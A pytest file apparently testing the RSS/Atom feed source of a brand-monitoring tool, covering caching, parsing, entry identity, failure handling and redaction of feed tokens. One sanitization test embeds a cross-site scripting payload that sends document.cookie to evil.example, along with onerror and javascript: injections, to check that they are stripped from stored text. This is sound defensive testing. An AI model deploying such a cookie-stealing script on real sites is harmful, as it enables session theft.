"""The RSS/Atom source against fake feed servers on 127.0.0.1: conditional GETs and
304s, RSS and Atom alike, entries known by id or link, the brand filter, hostile HTML,
and one bad feed never stopping the others."""

from __future__ import annotations

import json
import logging
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from fakes.feeds import FakeFeeds, Item, atom, rdf, rss
from fakes.pipeline import BRAND, shared_http, stages
from fakes.server import BLOCK_PAGE, Scripted
from pydantic import ValidationError

from earful.http import SharedSession
from earful.pipeline import poll, poll_sources
from listener.base import RateLimited, SourceContext, SourceDown
from listener.rss import RssSource, Settings, build
from storage import health
from storage.store import Store


@pytest.fixture
async def fake() -> AsyncIterator[FakeFeeds]:
    async with FakeFeeds() as server:
        yield server


http = pytest.fixture(shared_http, name="http")


def source(http: SharedSession, urls: list[str], **keys: Any) -> RssSource:
    table = {"name": "feeds", "type": "rss", "urls": urls, **keys}
    return build(Settings.model_validate(table), SourceContext(brand=BRAND, http=http.get))


def native_ids(store: Store) -> list[str]:
    return sorted(r[0] for r in store.conn.execute("SELECT native_id FROM mentions"))


def texts(store: Store) -> list[str]:
    return [r[0] for r in store.conn.execute("SELECT text FROM mentions ORDER BY id")]


NEWS = [
    Item(
        "tag:news.example,2026:1",
        "Acme outage hits thousands",
        "<p>Customers of <b>Acme</b> lost service.</p>",
        "https://news.example/1",
        "Jo Reporter",
    ),
    Item(
        "tag:news.example,2026:2",
        "Globex opens new office",
        "<p>Nothing about the brand.</p>",
        "https://news.example/2",
    ),
]


# -- formats ----------------------------------------------------------------------------------


async def test_a_title_written_as_html_is_stored_as_text(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    # written escaped once more than the format needs, as many feeds do: feedparser
    # calls such a title HTML and hands the markup over as it is
    items = [
        Item("t:1", "<b>Acme</b> down again &lt;3", link="https://news.example/1"),
        Item("t:2", "AT&amp;T &amp; Acme: outage", link="https://news.example/2"),
        Item("t:3", "Acme & Globex < 3 plans", link="https://news.example/3"),  # plain text
    ]
    summary = await poll(source(http, [fake.publish("news", rss("News", items))]), store, stages())
    assert summary.new == 3
    assert texts(store) == ["Acme down again <3", "AT&T & Acme: outage", "Acme & Globex < 3 plans"]


async def test_rss_and_atom_feeds_are_both_read(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    reviews = [
        Item(
            "urn:review:9",
            "Two stars for ACME",
            "<div>Router died &amp; support was slow</div>",
            "/reviews/9",
        )
    ]
    urls = [
        fake.publish("news", rss("News", NEWS)),
        fake.publish("reviews", atom("Reviews", reviews), "application/atom+xml"),
    ]
    summary = await poll(source(http, urls), store, stages())
    assert summary.new == 2
    assert texts(store) == [
        "Acme outage hits thousands\n\nCustomers of Acme lost service.",
        "Two stars for ACME\n\nRouter died & support was slow",
    ]
    rows = store.conn.execute("SELECT author_name, url FROM mentions ORDER BY id").fetchall()
    assert tuple(rows[0]) == ("Jo Reporter", "https://news.example/1")
    assert tuple(rows[1]) == ("Reviews", f"{fake.url}/reviews/9")  # relative link resolved


async def test_atom_text_constructs_are_stored_as_written_not_read_as_html(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    # type="text" is plain text: "<y>" and "&amp;" are what the author wrote, and
    # its line breaks are the author's
    typed = "Acme billed a<b and x <y> z\nsecond line &amp; more"
    plain = atom("Reviews", [Item("urn:r:1", "Acme review", "", "https://r.example/1")])
    plain = plain.replace(
        '<content type="html"></content>', f'<summary type="text">{escape(typed)}</summary>'
    )
    both = atom("Forum", [Item("urn:f:1", "Acme thread", "", "https://f.example/1")])
    both = both.replace(
        '<content type="html"></content>', f'<content type="text">{escape(typed)}</content>'
    )
    urls = [
        fake.publish("reviews", plain, "application/atom+xml"),
        fake.publish("forum", both, "application/atom+xml"),
    ]
    assert (await poll(source(http, urls), store, stages())).new == 2
    assert sorted(texts(store)) == [f"Acme review\n\n{typed}", f"Acme thread\n\n{typed}"]


async def test_rss_1_0_and_legacy_encodings_are_read_as_written(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    def item(n: int) -> Item:
        link = f"https://news.example/{n}"
        return Item(None, "Acme “déçu” – naïve", "<p>Ça coûte 5 € chez Acme</p>", link, "Zoë")

    # a windows-1252 document that says so, served with a charset that does not
    legacy = rdf("Café news", [item(2)]).replace('encoding="utf-8"', 'encoding="windows-1252"')
    urls = [
        fake.publish("rdf", rdf("Café news", [item(1)]), "application/rdf+xml"),
        fake.publish("legacy", legacy.encode("cp1252"), "application/rss+xml; charset=utf-8"),
    ]
    assert (await poll(source(http, urls), store, stages())).new == 2
    rows = store.conn.execute(
        "SELECT text, author_name, url, created_at FROM mentions ORDER BY url"
    ).fetchall()
    assert [tuple(r) for r in rows] == [
        (
            "Acme “déçu” – naïve\n\nÇa coûte 5 € chez Acme",
            "Zoë",
            f"https://news.example/{n}",
            "2026-11-20T09:00:00.000Z",
        )
        for n in (1, 2)
    ]


async def test_an_rss_author_given_as_address_and_name_is_known_by_the_name(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    # RSS 2.0's <author> is "address (name)"; feedparser garbles an address whose
    # domain ends in more than four letters
    items = [Item(f"t:{n}", f"Acme outage {n}", link=f"https://news.example/{n}") for n in (1, 2)]
    document = rss("News", items)
    for n, who in ((1, "jane@acme.online (Jane Doe)"), (2, "ed@news.technology")):
        document = document.replace(
            f"<link>https://news.example/{n}</link>",
            f"<link>https://news.example/{n}</link><author>{who}</author>",
        )
    # an Atom author's address is no part of the name either
    blog = atom("Blog", [Item("t:3", "Acme outage 3", link="https://news.example/3")])
    blog = blog.replace(
        "<published>", "<author><name>Zoë</name><email>zoe@acme.online</email></author><published>"
    )
    urls = [fake.publish("news", document), fake.publish("blog", blog, "application/atom+xml")]
    assert (await poll(source(http, urls), store, stages())).new == 3
    rows = store.conn.execute("SELECT author_name FROM mentions ORDER BY url").fetchall()
    assert [r[0] for r in rows] == ["Jane Doe", "ed@news.technology", "Zoë"]


async def test_without_match_every_entry_is_kept(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    url = fake.publish("news", rss("News", NEWS))
    summary = await poll(source(http, [url], match=False), store, stages())
    assert summary.new == 2


async def test_match_wants_the_brand_as_a_whole_word(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    items = [
        Item("1", "Visiting Acmeville this summer"),
        Item("2", "Why I left ACME"),
        Item("3", "Roadrunner", "<p>ordered from acme, again</p>"),
    ]
    url = fake.publish("blog", rss("Blog", items))
    await poll(source(http, [url]), store, stages())
    assert [t.split("\n")[0] for t in texts(store)] == ["Why I left ACME", "Roadrunner"]


@pytest.mark.parametrize("write", [rss, atom], ids=["rss", "atom"])
async def test_a_full_text_feed_is_matched_and_judged_on_the_whole_post(
    write: Any, fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    # WordPress pairs a cut-off excerpt with the whole post: a brand named only past
    # the cut used to be dropped by `match`, and a kept entry judged on the excerpt.
    excerpt = "<p>This week I worked from the kitchen table and it went [&#8230;]</p>"
    whole = (
        "<p>This week I worked from the kitchen table and it went badly.</p>"
        "<p>My Acme internet dropped every hour and Acme support hung up on me twice.</p>"
    )
    url = fake.publish("blog", write("Blog", [Item("1", "My week at home", excerpt, full=whole)]))
    summary = await poll(source(http, [url]), store, stages())
    assert summary.new == 1
    (text,) = texts(store)
    assert "Acme support hung up on me twice" in text and "[…]" not in text


# -- conditional GET -----------------------------------------------------------------------------


async def test_an_unchanged_feed_costs_a_304_and_stores_nothing(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    url = fake.publish("news", rss("News", NEWS))
    feeds = source(http, [url])
    await poll(feeds, store, stages())
    before = store.cursor("feeds")
    summary = await poll(feeds, store, stages())
    first, second = fake.seen("/feeds/news")
    assert "If-None-Match" not in first.headers
    assert second.headers["If-None-Match"] == fake.documents["news"].tag
    assert second.headers["If-Modified-Since"] == "Fri, 20 Nov 2026 09:00:00 GMT"
    assert summary.fetched == 0 and summary.new == 0
    assert store.cursor("feeds") == before


async def test_a_server_without_etags_gets_if_modified_since(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    url = fake.publish("news", rss("News", NEWS), etag=False)
    feeds = source(http, [url])
    await poll(feeds, store, stages())
    summary = await poll(feeds, store, stages())
    second = fake.seen("/feeds/news")[1]
    assert "If-None-Match" not in second.headers
    assert second.headers["If-Modified-Since"] == "Fri, 20 Nov 2026 09:00:00 GMT"
    assert summary.fetched == 0


async def test_a_changed_feed_offers_only_its_new_entries(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    url = fake.publish("news", rss("News", NEWS))
    feeds = source(http, [url])
    await poll(feeds, store, stages())
    later = Item("tag:news.example,2026:3", "Acme apologises", "<p>Credits for all</p>")
    fake.publish("news", rss("News", [later, *NEWS]))
    summary = await poll(feeds, store, stages())
    assert summary.fetched == 1 and summary.new == 1
    cursor = store.cursor("feeds")
    assert cursor is not None
    assert cursor["feeds"][url]["etag"] == fake.documents["news"].tag


async def test_a_server_that_ignores_conditional_requests_still_repeats_nothing(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    url = fake.publish("news", rss("News", NEWS))
    feeds = source(http, [url])
    await poll(feeds, store, stages())
    fake.script("/feeds/news", Scripted(200, rss("News", NEWS), content_type="application/rss+xml"))
    summary = await poll(feeds, store, stages())
    assert summary.fetched == 0


# -- identity ------------------------------------------------------------------------------------


async def test_entries_are_known_by_id_else_link_and_kept_once(
    fake: FakeFeeds, http: SharedSession, store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    items = [
        Item(None, "Acme by link", link="https://blog.example/acme-1"),
        Item("dup-1", "Acme twice"),
        Item("dup-1", "Acme twice"),
        Item(None, "Acme with neither id nor link"),
    ]
    url = fake.publish("blog", rss("Blog", items))
    summary = await poll(source(http, [url]), store, stages())
    assert native_ids(store) == [
        "127.0.0.1#dup-1",
        "https://blog.example/acme-1",
    ]  # a bare id: per site
    assert summary.new == 2
    assert "neither an id nor a link" in caplog.text


async def test_two_sites_entries_with_the_same_bare_id_are_two_mentions(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    # small blogs number their posts: <guid isPermaLink="false">42</guid>; the fake
    # serves every feed from 127.0.0.1, and "localhost" reaches it as another site
    one = fake.publish("one", rss("One", [Item("42", "Acme is down for me too")]))
    two = fake.publish("two", rss("Two", [Item("42", "Thanks Acme, fixed in minutes")]))
    two = two.replace("127.0.0.1", "localhost")
    summary = await poll(source(http, [one, two]), store, stages())
    assert summary.new == 2
    assert native_ids(store) == ["127.0.0.1#42", "localhost#42"]


async def test_one_sites_feeds_agree_on_an_entry_whatever_its_id(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    # Ghost writes <guid isPermaLink="false">65a1f0c2...</guid> in the main feed and
    # in each tag's feed
    post = [Item("65a1f0c2e4b0a1b2c3d4e5f6", "Acme outage again", link="https://b.example/1")]
    tagged = [Item("tag:news.example,2026:1", "Acme outage", link="https://news.example/1")]
    urls = [
        fake.publish("main", rss("Main", post + tagged)),
        fake.publish("outages", rss("Outages", post + tagged)),
    ]
    summary = await poll(source(http, urls), store, stages())
    assert summary.new == 2
    assert native_ids(store) == ["127.0.0.1#65a1f0c2e4b0a1b2c3d4e5f6", "tag:news.example,2026:1"]


async def test_entries_seen_under_their_bare_id_before_an_upgrade_are_not_offered_again(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    url = fake.publish("blog", rss("Blog", [Item("42", "Acme is down"), Item("43", "Acme!")]))
    # the cursor an Earful that stored bare ids left behind
    old = {"feeds": {url: {"etag": None, "modified": None, "seen": ["42"]}}}
    store.conn.execute(
        "INSERT INTO cursors (source, cursor, updated_at) VALUES ('feeds', ?, '2026-11-01')",
        (json.dumps(old),),
    )
    summary = await poll(source(http, [url]), store, stages())
    assert summary.new == 1 and texts(store) == ["Acme!"]
    again = await poll(source(http, [url]), store, stages())
    assert again.new == 0


async def test_hostile_html_in_entries_is_plain_text(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    html = (
        '<p>acme <script>document.location="https://evil.example/?c="+document.cookie</script>'
        'billing &amp; &quot;support&quot; &#x1F621;</p><iframe src="https://evil.example"></iframe>'
        '<img src=x onerror="alert(1)"><a href="javascript:alert(1)">details</a>'
        "<style>body{display:none}</style>"
    )
    url = fake.publish(
        "x", atom("X", [Item("urn:x:1", "<b>Acme</b> <3", html)]), "application/atom+xml"
    )
    await poll(source(http, [url]), store, stages())
    (text,) = texts(store)
    assert "script" not in text and "evil" not in text and "display" not in text
    # the title is plain text (type="text"): its markup-like characters are the title
    assert text == '<b>Acme</b> <3\n\nacme billing & "support" 😡\n\ndetails'


# -- failures ------------------------------------------------------------------------------------


async def test_one_bad_feed_does_not_stop_the_others(
    fake: FakeFeeds, http: SharedSession, store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    good = fake.publish("news", rss("News", NEWS))
    garbage = fake.publish("garbage", b"\x00\x01 this is not xml {", "application/rss+xml")
    urls = [fake.feed_url("missing"), garbage, good]
    feeds = source(http, urls)
    caplog.set_level(logging.DEBUG, logger="earful.rss")
    assert (await poll(feeds, store, stages())).new == 1
    fake.publish("news", rss("News", [Item("n3", "Acme again"), *NEWS]))
    assert (await poll(feeds, store, stages())).new == 1

    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert len(warnings) == 2  # each bad feed once, not once a poll
    assert any("HTTP 404" in w for w in warnings)
    assert any("not an RSS or Atom feed (line 2: not well-formed" in w for w in warnings)
    assert not any("<unknown>" in w for w in warnings)  # the XML parser's own wording
    cursor = store.cursor("feeds")
    assert cursor is not None
    assert cursor["feeds"][garbage] == {"etag": None, "modified": None, "seen": []}

    fake.publish("garbage", rss("Fixed", [Item("g1", "Acme fixed")]))
    assert (await poll(feeds, store, stages())).new == 1
    assert f"feed {garbage} recovered" in caplog.text


async def test_one_dead_feed_of_several_shows_in_the_sources_health(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    # it was "ok" with no error: monitoring never saw a feed dead for days
    good = fake.publish("news", rss("News", NEWS))
    feeds = source(http, [fake.feed_url("missing"), good])
    summaries, errors = await poll_sources(
        [feeds], store, stages(), max_pages=1, record_health=True
    )
    assert summaries[0].new == 1  # the good feed's finds are stored all the same
    assert errors["feeds"].startswith("1 of 2 feeds failed (the others were read): ")
    assert "HTTP 404" in errors["feeds"]
    (h,) = health.read(store)
    assert (h.state, h.failures) == ("failing", 1) and "1 of 2 feeds failed" in (h.error or "")
    fake.publish("missing", rss("Back", [Item("b1", "Acme is back")]))
    summaries, errors = await poll_sources(
        [feeds], store, stages(), max_pages=1, record_health=True
    )
    assert errors == {} and summaries[0].new == 1
    (h,) = health.read(store)
    assert (h.state, h.failures) == ("ok", 0)


async def test_two_feeds_that_differ_only_in_their_query_are_told_apart_in_the_log(
    fake: FakeFeeds, http: SharedSession, store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    # a news search by ?q=: both failing logged the same line twice
    good = fake.publish("news", rss("News", NEWS))
    missing = fake.feed_url("missing")
    feeds = source(http, [f"{missing}?q=acme", f"{missing}?q=acme+broadband", good])
    caplog.set_level(logging.WARNING, logger="earful.rss")
    await poll(feeds, store, stages())
    warnings = sorted(r.getMessage() for r in caplog.records)
    assert len(warnings) == 2 and warnings[0] != warnings[1], warnings
    assert any(f"feed {missing}?...#2: HTTP 404" in w for w in warnings), warnings
    assert "q=acme" not in caplog.text  # the query may hold a token: never shown


async def test_every_feed_failing_is_source_down(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    bad = fake.publish("bad", "<html><body>Moved</body></html>", "text/html")
    feeds = source(http, [fake.feed_url("gone"), bad])
    with pytest.raises(SourceDown, match="all 2 feeds asked failed"):
        await poll(feeds, store, stages())
    assert store.cursor("feeds") is None


async def test_a_rate_limited_feed_rests_while_the_others_are_read(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    busy = fake.publish("busy", rss("Busy", NEWS))
    calm = fake.publish("calm", rss("Calm", [Item("tag:calm,1", "Acme again")]))
    fake.script("/feeds/busy", Scripted(429, "slow down", {"Retry-After": "600"}, "text/plain"))
    feeds = source(http, [busy, calm])
    assert (await poll(feeds, store, stages())).new == 1
    cursor = store.cursor("feeds")
    assert cursor is not None
    (resting,) = [s["resting_until"] for s in cursor["feeds"].values() if "resting_until" in s]
    assert 590 < resting - datetime.now(UTC).timestamp() <= 600
    for _ in range(2):
        await poll(feeds, store, stages())
    assert len(fake.seen("/feeds/busy")) == 1  # not asked again while it rests
    assert len(fake.seen("/feeds/calm")) == 3


async def test_every_feed_rate_limited_is_a_rate_limit_until_the_first_may_be_asked(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    urls = [fake.publish(name, rss(name, NEWS)) for name in ("one", "two")]
    fake.script("/feeds/one", Scripted(429, "", {"Retry-After": "600"}, "text/plain"))
    fake.script("/feeds/two", Scripted(429, "", {"Retry-After": "120"}, "text/plain"))
    with pytest.raises(RateLimited, match="all 2 feeds asked are rate-limited") as caught:
        await poll(source(http, urls), store, stages())
    assert caught.value.reset_at is not None
    assert 110 < (caught.value.reset_at - datetime.now(UTC)).total_seconds() <= 120


async def test_a_lone_feed_keeps_its_own_error(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    url = fake.publish("news", rss("News", NEWS))
    fake.script("/feeds/news", Scripted(429, "slow down", {"Retry-After": "600"}, "text/plain"))
    with pytest.raises(RateLimited):
        await poll(source(http, [url]), store, stages())


@pytest.mark.parametrize("status", [401, 403])
async def test_a_lone_feed_refused_is_source_down_not_bad_credentials(
    fake: FakeFeeds, http: SharedSession, store: Store, status: int
) -> None:
    # a lone feed's 403 came out as its own AuthFailed: the daemon disabled the
    # source until a restart ("fix its credentials") though a feed has none
    url = fake.publish("news", rss("News", NEWS))
    fake.script("/feeds/news", Scripted(status, BLOCK_PAGE, content_type="text/html"))
    feeds = source(http, [url])
    _, errors = await poll_sources([feeds], store, stages(), max_pages=1, record_health=True)
    assert errors["feeds"] == (
        f"feed {url}: HTTP {status}, refused to answer: the server may be blocking this "
        "address, or want a login"
    )
    (h,) = health.read(store)
    assert (h.state, h.failures, h.error) == ("failing", 1, errors["feeds"])
    assert store.cursor("feeds") is None
    summaries, errors = await poll_sources(
        [feeds], store, stages(), max_pages=1, record_health=True
    )
    assert errors == {} and summaries[0].new == 1  # asked again, and read
    (h,) = health.read(store)
    assert h.state == "ok"


async def test_a_truncated_feed_keeps_the_entries_before_the_break(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    document = rss("News", NEWS)
    url = fake.publish("news", document[: document.index("Globex") + 10])
    summary = await poll(source(http, [url]), store, stages())
    assert summary.new == 1


# A complaint whose guid comes after its link, as in most feeds, and one before it.
OUTAGE = Item("tag:news.example,2026:1", "Acme outage", "<p>No service</p>", "https://n.example/1")
REFUND = Item(
    "tag:news.example,2026:3",
    "Acme billing",
    "<p>acme charged me twice and support will not refund me, worst company ever</p>",
    "https://n.example/3",
)


def cut_after(document: str, text: str) -> str:
    return document[: document.index(text) + len(text)]


def cut_off(url: str) -> str:
    """What is said of the feed at `url` with its last entry cut off."""
    return (
        f"feed {url}: cut off (line 2: no element found); 1 entry held back until it is read whole"
    )


def callbacks(store: Store) -> dict[str, int]:
    """Callback tasks by the native id of the entry they are for."""
    rows = store.conn.execute(
        "SELECT m.native_id, count(*) FROM callbacks c JOIN mentions m ON m.id = c.mention_id"
        " GROUP BY m.native_id"
    )
    return {r[0]: r[1] for r in rows}


async def test_an_entry_cut_off_is_stored_once_when_the_document_is_whole(
    fake: FakeFeeds, http: SharedSession, store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    # the repro: the last item cut after </link>, before <guid>, was stored under its
    # link, judged on its title alone, then stored again under its guid with a
    # second callback task; nothing was logged and the poll was "ok"
    whole = rss("News", [OUTAGE, REFUND])
    url = fake.publish("news", cut_after(whole, "https://n.example/3</link>"))
    feeds = source(http, [url])
    caplog.set_level(logging.DEBUG, logger="earful.rss")
    summaries, errors = await poll_sources(
        [feeds], store, stages(), max_pages=1, record_health=True
    )
    assert summaries[0].new == 1  # the entry before the break
    assert errors["feeds"] == cut_off(url)
    (h,) = health.read(store)
    assert (h.state, h.error) == ("failing", cut_off(url))
    await poll_sources([feeds], store, stages(), max_pages=1, record_health=True)

    fake.publish("news", whole)
    summaries, errors = await poll_sources(
        [feeds], store, stages(), max_pages=1, record_health=True
    )
    assert errors == {} and summaries[0].new == 1
    assert native_ids(store) == [OUTAGE.id, REFUND.id]
    assert callbacks(store) == {OUTAGE.id: 1, REFUND.id: 1}  # one task each
    assert texts(store)[1].startswith("Acme billing\n\nacme charged me twice")
    (h,) = health.read(store)
    assert h.state == "ok"
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert warnings == [f"feeds: {cut_off(url)} (logged once until it reads whole)"]
    assert f"feeds: feed {url} reads whole again" in caplog.text


async def test_a_document_cut_in_transit_is_asked_for_whole_not_if_none_match(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    # the answer cut short carries the whole document's ETag: kept, it would have the
    # server answer 304 until the feed changed, and the entry held back never came
    url = fake.publish("news", rss("News", [OUTAGE]))
    feeds = source(http, [url])
    await poll(feeds, store, stages())
    whole = rss("News", [REFUND, OUTAGE])
    fake.publish("news", whole)
    tag = fake.documents["news"].tag
    cut = cut_after(whole, "worst company")
    fake.script("/feeds/news", Scripted(200, cut, {"ETag": tag}, "application/rss+xml"))
    assert (await poll(feeds, store, stages())).new == 0
    assert (await poll(feeds, store, stages())).new == 1
    assert fake.seen("/feeds/news")[-1].headers.get("If-None-Match") != tag
    assert native_ids(store) == [OUTAGE.id, REFUND.id] and callbacks(store) == {
        OUTAGE.id: 1,
        REFUND.id: 1,
    }


async def test_an_entry_that_lost_its_id_to_a_cut_waits_for_the_whole_document(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    # cut short, with a mismatched tag before the cut: that entry's <guid> is gone,
    # and stored under its link it would be stored again under its guid
    last = "tag:news.example,2026:4"
    later = Item(last, "Acme down", "<p>acme down all day, furious</p>")
    whole = rss("News", [REFUND, OUTAGE, later])
    broken = whole.replace(f"{REFUND.id}</guid>", f"{REFUND.id}</gui>")
    broken = broken[: broken.index(last)]
    url = fake.publish("news", broken)
    feeds = source(http, [url])
    summary = await poll(feeds, store, stages())
    assert summary.new == 1 and (summary.trouble or "").startswith(f"feed {url}: cut off (")
    assert (summary.trouble or "").endswith("2 entries held back until it is read whole")
    fake.publish("news", whole)
    assert (await poll(feeds, store, stages())).new == 2
    assert callbacks(store) == {OUTAGE.id: 1, REFUND.id: 1, last: 1}


async def test_a_feed_malformed_for_good_holds_no_entry_back(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    # a stray "&" in every version, and an item without a <guid> (optional in RSS
    # 2.0) beside items with one: held back, it would never be stored, and the feed
    # would read as failing for good
    body = rss("News", [OUTAGE, REFUND]).replace("Acme outage", "Acme & outage")
    body = body.replace(f'<guid isPermaLink="false">{REFUND.id}</guid>', "")
    url = fake.publish("news", body)
    summary = await poll(source(http, [url]), store, stages())
    assert (summary.new, summary.trouble) == (2, None)


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        # feedparser's "bozo" for things it reads past: they change nothing
        (rss("News", [OUTAGE, REFUND]), "text/html; charset=utf-8"),
        (rss("News", [OUTAGE, REFUND]), "application/rss+xml; charset=us-ascii"),
        (rss("News", [OUTAGE, REFUND]).replace("Acme outage", "Acme outage &nbsp;"), None),
        (rss("News", [OUTAGE, REFUND]).replace("Acme outage", "Acme & outage"), None),
    ],
    ids=["html-content-type", "charset-override", "html-entity", "bare-ampersand"],
)
async def test_a_document_read_past_its_flaws_is_stored_whole_as_before(
    fake: FakeFeeds,
    http: SharedSession,
    store: Store,
    caplog: pytest.LogCaptureFixture,
    body: str,
    content_type: str | None,
) -> None:
    body = body.replace("Acme billing", "Acme billing \u00e9")  # a byte us-ascii lacks
    url = fake.publish("news", body, content_type or "application/rss+xml; charset=utf-8")
    caplog.set_level(logging.WARNING, logger="earful.rss")
    summary = await poll(source(http, [url]), store, stages())
    assert (summary.new, summary.trouble) == (2, None)
    assert native_ids(store) == [OUTAGE.id, REFUND.id]
    assert caplog.records == []


async def test_a_complaint_in_a_feed_becomes_a_callback(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    item = Item(
        "r1", "Acme review", "<p>acme internet has been down all day, worst support ever</p>"
    )
    url = fake.publish("reviews", rss("Reviews", [item]))
    summary = await poll(source(http, [url]), store, stages())
    assert summary.ingest.callbacks == 1 and summary.ingest.replies == 0


@pytest.mark.parametrize(
    ("urls", "problem"),
    [([], "at least 1"), (["ftp://news.example/feed"], "http:// or https://"), (["feed"], "http")],
)
def test_feed_urls_are_checked(urls: list[str], problem: str) -> None:
    with pytest.raises(ValidationError, match=problem):
        Settings.model_validate({"name": "f", "type": "rss", "urls": urls})


async def test_a_private_feeds_token_stays_out_of_the_logs(
    fake: FakeFeeds, http: SharedSession, store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    fake.publish("news", rss("News", [Item(None, "Acme entry without id or link")]))
    private = fake.feed_url("news") + "?token=s3cr3t-t0ken"
    missing = fake.feed_url("gone").replace("http://", "http://user:pa55word@") + "?key=k3y"
    await poll(source(http, [private, missing]), store, stages())
    assert "neither an id nor a link" in caplog.text and "HTTP 404" in caplog.text
    for secret in ("s3cr3t-t0ken", "pa55word", "k3y"):
        assert secret not in caplog.text
    assert f"{fake.url}/feeds/news?..." in caplog.text


async def test_a_private_feeds_token_stays_out_of_the_database(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    fake.publish("news", rss("News", NEWS))
    news = fake.feed_url("news")
    # two feeds that differ only in their tokens still keep a cursor each
    urls = [f"{news}?token=s3cr3t-0ne", f"{news}?token=s3cr3t-tw0"]
    summary = await poll(source(http, urls), store, stages())
    assert summary.new == 1  # the same entry in both feeds is stored once
    cursor = store.cursor("feeds")
    assert cursor is not None
    assert list(cursor["feeds"]) == [f"{news}?...", f"{news}?...#2"]
    raw = store.conn.execute("SELECT raw FROM mentions").fetchone()[0]
    assert f'"feed_url":"{news}"' in raw
    store.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    path = store.conn.execute("PRAGMA database_list").fetchone()["file"]
    assert b"s3cr3t" not in Path(path).read_bytes()


async def test_a_cursor_keyed_by_full_urls_is_still_read(
    fake: FakeFeeds, http: SharedSession, store: Store
) -> None:
    url = fake.publish("news", rss("News", NEWS)) + "?token=s3cr3t"
    feeds = source(http, [url])
    first = await feeds.fetch(None)
    assert first.cursor is not None
    old_style = {"feeds": {url: first.cursor["feeds"][f"{url.split('?')[0]}?..."]}}
    again = await feeds.fetch(old_style)
    assert again.mentions == () and "s3cr3t" not in str(again.cursor)
